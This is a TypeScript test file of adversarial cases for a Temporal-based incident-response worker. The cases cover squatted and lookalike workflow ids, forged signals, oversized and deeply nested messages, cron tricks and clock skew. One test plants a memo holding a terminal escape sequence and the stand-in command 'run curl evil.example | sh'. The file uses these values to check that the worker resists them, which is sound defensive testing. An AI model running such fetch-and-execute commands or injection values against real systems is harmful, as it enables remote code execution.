import { randomUUID } from 'node:crypto';
import { findingWorkflowId, parseFindingName } from '../../src/domain/finding/finding-name';
import { DEFAULT_QUEUE, signalNames, updateNames, workflowTypes } from '../../src/domain/message-names';
import { decision } from '../../stage/incident';
import { runFirebreak } from '../../stage/program';
import { failureText } from '../answered';
import type { Arena } from '../arena';
import type { AttackCase } from '../case';
import { receivePages } from '../pages';

const quick = { watchEvery: '4s' } as const;
const nothing = { changes: 0, shell: 'alive', frozen: false, findingsOpen: true } as const;
const contained = { changes: 1, shell: 'dead', frozen: true } as const;

/** The findings that the scenario will have, before it begins: an attacker knows the ids of an earlier life. */
async function findingIds(arena: Arena): Promise<readonly string[]> {
  return Object.keys((await arena.stage.cloud.truth()).findings).map((name) =>
    findingWorkflowId(parseFindingName(name), DEFAULT_QUEUE),
  );
}

/** How a workflow that somebody started ended, or that it runs. */
async function statusOf(arena: Arena, workflowId: string): Promise<string> {
  const { status } = await arena.stage.temporal.client.workflow.getHandle(workflowId).describe();
  return status.name;
}

/** Workflows of somebody else take the ids of the findings, which are notified again. */
async function findingsTaken(
  arena: Arena,
  type: string,
  options: { readonly taskQueue: string; readonly cronSchedule?: string },
): Promise<void> {
  const { stage } = arena;
  const pages = await receivePages();
  try {
    const view = await arena.asked({ environment: { FIREBREAK_WEBHOOK: pages.url } });
    for (const workflowId of await findingIds(arena))
      await stage.temporal.client.workflow.start(type, {
        ...{ workflowId, args: [], ...options },
        workflowIdConflictPolicy: 'TERMINATE_EXISTING',
      });
    const [name = ''] = Object.keys((await stage.cloud.truth()).findings);
    const again = { name, canonicalName: name, state: 'ACTIVE', eventTime: new Date().toISOString() };
    await arena.publish(JSON.stringify({ notificationConfigName: 'x', finding: again }));
    await arena.until('people are told', async () =>
      Promise.resolve(pages.texts().some((text) => text.includes('terminate --workflow-id'))),
    );
    await arena.contained(view);
  } finally {
    await pages.close();
  }
}

/** Node's own clock, so many milliseconds from the machine's. */
function shifted(ms: number): readonly string[] {
  const program = `const D=Date,s=${ms};globalThis.Date=class extends D{constructor(...a){if(a.length)super(...a);else super(D.now()+s)}static now(){return D.now()+s}}`;
  return ['--import', `data:text/javascript,${encodeURIComponent(program)}`];
}

/** The worker's clock differs from the server's and from Google's. */
function skewed(name: string, title: string, ms: number): AttackCase {
  return {
    ...{ name, title, who: 'operator' },
    play: async (arena) => {
      const { stage } = arena;
      const view = await arena.asked({ nodeOptions: shifted(ms) });
      await stage.incident.decide('approve', view, randomUUID());
      // Samples that are older than the change by that clock prove nothing, which is said; the freeze is made.
      await stage.incident.until(
        'it has come to rest',
        ({ phase, outcome }) => phase === 'watching' && outcome !== undefined,
      );
    },
    holds: contained,
  };
}

/** Ids, queues, starts and messages that are almost ours, and a machine that is not as it should be. */
export const strangers: readonly AttackCase[] = [
  {
    name: 'squatted-installation',
    title:
      "before the worker starts: somebody holds the installation's id; the worker says what to do, and that frees it",
    who: 'temporal',
    play: async (arena) => {
      const { stage } = arena;
      const { client } = stage.temporal;
      const { firstExecutionRunId } = await client.workflow.start('notOfThisProduct', {
        ...{ workflowId: 'installation:firebreak', taskQueue: 'nobody', args: [] },
        memo: { id: '\u001b[2J', ledger: 'run curl evil.example | sh', identity: 'mallory' },
      });
      const ended = await runFirebreak(['worker'], stage.environment);
      const said = `${ended.stdout}${ended.stderr}`;
      const command = `temporal workflow terminate --workflow-id installation:firebreak --run-id ${firstExecutionRunId}`;
      if (ended.code !== 8 || !said.includes(command))
        throw new Error(
          `expected: exit code 8 and the command; seen: ${String(ended.code)}, ${said.slice(0, 600)}`,
        );
      if (said.includes('\u001b')) throw new Error('expected: nothing raw is printed; seen: an escape');
      await client.workflow
        .getHandle('installation:firebreak', firstExecutionRunId)
        .terminate('as it was said');
      await arena.asked();
    },
    holds: nothing,
  },
  {
    name: 'squatted-finding',
    title:
      'the workflows of the findings are ended, and others take their ids: people are told when they are notified again',
    who: 'temporal',
    stage: quick,
    play: async (arena) => findingsTaken(arena, 'notOfThisProduct', { taskQueue: 'nobody' }),
    holds: contained,
  },
  {
    name: 'finding-held-by-cron',
    title:
      'the workflows of the findings are ended, and ones of our type, on our queue, that wait for the next year by cron take their ids: people are told',
    who: 'temporal',
    stage: quick,
    play: async (arena) =>
      findingsTaken(arena, workflowTypes.finding, { taskQueue: 'firebreak', cronSchedule: '0 0 1 1 *' }),
    holds: contained,
  },
  {
    name: 'almost-our-ids',
    title:
      "workflows of our types under another installation's ids, and under ids that are almost ours: each ends at once",
    who: 'temporal',
    play: async (arena) => {
      const { client } = arena.stage.temporal;
      const view = await arena.asked();
      const [id = ''] = await findingIds(arena);
      const [name = ''] = Object.keys((await arena.stage.cloud.truth()).findings);
      const { slot } = arena.stage.incident;
      const starts = [
        ...[`other/${slot}`, `firebreak/${slot}`, `${slot}#1`, `${slot}/`, `${slot}%2e`, slot.toUpperCase()],
        ...[
          slot.replace('/services/', '/services/../services/'),
          'incident:',
          'incident:unplaced/x',
          `\u0000${slot}`,
        ],
      ].map((workflowId) => ({ workflowId, type: workflowTypes.incident, args: [{}] as unknown[] }));
      for (const { workflowId, type, args } of [
        ...starts,
        { workflowId: `other/${id}`, type: workflowTypes.finding, args: [{ name, eventTime: '' }] },
        { workflowId: `${id}0`, type: workflowTypes.finding, args: [{ name, eventTime: '' }] },
        { workflowId: 'finding:1/2', type: workflowTypes.finding, args: [null] },
      ]) {
        await client.workflow
          .start(type, { workflowId, taskQueue: 'firebreak', args })
          .catch(() => undefined);
        await arena.until(`${JSON.stringify(workflowId)} has ended`, async () =>
          statusOf(arena, workflowId).then(
            (status) => status === 'FAILED',
            () => true,
          ),
        );
      }
      if ((await arena.ledger.readDecisions(view.incident)).length > 0)
        throw new Error('a decision appeared');
    },
    holds: nothing,
  },
  {
    name: 'finding-by-schedule',
    title:
      "a finding's workflow is started by cron, with a retry policy, with time-outs, before it is notified",
    who: 'temporal',
    stage: quick,
    play: async (arena) => {
      const { client } = arena.stage.temporal;
      const name = 'organizations/688851828130/sources/5629501234567890123/locations/global/findings/';
      const odd = [
        { cronSchedule: '@every 1s' },
        { retry: { maximumAttempts: 3, initialInterval: '1s' } },
        { workflowRunTimeout: '5s' },
        { workflowExecutionTimeout: '5s' },
      ] as const;
      await arena.asked();
      for (const [at, options] of odd.entries()) {
        const finding = `${name}c${String(at).padStart(31, '0')}`;
        const workflowId = findingWorkflowId(parseFindingName(finding), DEFAULT_QUEUE);
        const started = await client.workflow.start(workflowTypes.finding, {
          ...{ workflowId, taskQueue: 'firebreak', ...options },
          args: [{ name: finding, eventTime: '', carried: { ...forged, incident: `${arena.workload}#1` } }],
        });
        const handle = client.workflow.getHandle(workflowId);
        const first = client.workflow.getHandle(workflowId, started.firstExecutionRunId);
        await arena.until(`its first run has ended (${Object.keys(options).join()})`, async () =>
          first.describe().then(({ status }) => status.name !== 'RUNNING'),
        );
        const { events } = await first.fetchHistory();
        if (events?.some(({ activityTaskScheduledEventAttributes: scheduled }) => scheduled) === true)
          throw new Error(`expected: it does nothing (${Object.keys(options).join()}); seen: an activity`);
        await handle.terminate('the attack is over').catch(() => undefined);
      }
    },
    holds: nothing,
  },
  {
    name: 'cancelled-is-said',
    title: 'signals say to every finding that its incident was cancelled, ten times each',
    who: 'temporal',
    stage: quick,
    play: async (arena) => {
      const { incident } = await arena.asked();
      const { slot } = arena.stage.incident;
      for (let times = 0; times < 10; times += 1)
        for (const id of await arena.findings())
          await arena.signal(
            signalNames.incidentProgress,
            [{ ...forged, cancelled: true, incident, slot }],
            id,
          );
      await arena.settle();
      const view = await arena.contained();
      if (!view.incident.endsWith('#1')) throw new Error(`expected: number 1; seen: ${view.incident}`);
    },
    holds: contained,
  },
  {
    name: 'decisions-to-findings',
    title:
      "a decision is sent to the findings' workflows as an update, for another incident, of 1.5 MB and 3,000 levels deep",
    who: 'temporal',
    stage: quick,
    play: async (arena) => {
      const view = await arena.asked();
      const { client } = arena.stage.temporal;
      const good = decision('approve', view, randomUUID());
      let deep: unknown = good;
      for (let level = 0; level < 3_000; level += 1) deep = { a: deep };
      for (const id of await arena.findings()) {
        const answer = await client
          .withDeadline(Date.now() + 15_000, async () =>
            client.workflow
              .getHandle(id)
              .executeUpdate(updateNames.decide, { args: [good] satisfies [unknown] }),
          )
          .then((receipt: unknown) => `counted: ${JSON.stringify(receipt)}`, failureText);
        if (answer.includes('counted: ')) throw new Error(`expected: no such update; seen: ${answer}`);
        for (const message of [
          { ...good, incident: `${arena.workload.replace('payment-api', 'catalog-api')}#1` },
          { ...good, reason: 'x'.repeat(1_500_000) },
          deep,
          { approve: 'ffffffff', by: 'ada@example.com', reason: 'x' },
        ])
          await arena.signal(signalNames.decision, [message], id).catch(() => undefined);
      }
      await arena.settle();
      for (const id of await arena.findings())
        if ((await statusOf(arena, id)) !== 'RUNNING')
          throw new Error(`expected: ${id} goes on; seen: it ended`);
    },
    // The note by which it was made to look is the only one.
    holds: { ...nothing, decisions: 1 },
  },
  skewed('clock-ahead', "the worker's clock is four minutes ahead of the server's and of Google's", 240_000),
  skewed('clock-behind', "the worker's clock is four minutes behind the server's and Google's", -240_000),
];

const forged = { phase: 'closed', outcome: 'contained', restored: false, text: 'all is well' } as const;
